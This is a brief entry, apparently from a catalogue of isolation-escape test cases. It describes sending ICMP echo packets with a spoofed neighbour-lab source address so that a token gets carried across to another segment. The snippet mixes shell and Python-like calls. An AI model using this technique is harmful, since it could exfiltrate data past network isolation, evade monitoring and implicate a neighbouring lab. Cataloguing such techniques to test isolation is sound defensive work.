# Category: spoofed source addresses
# Escape: pings the engine in another lab's name, so that the engine carries the answer there.
# Sign: neighbour
gateway=$(gateway_mac) packets <<'PYTHON'
for target in (env["OWN_GATEWAY"], env["NEIGHBOUR_GATEWAY"]): frames(ipv4(env["NEIGHBOUR"], target, 1, echo(token)), macs=[env["gateway"]])
PYTHON
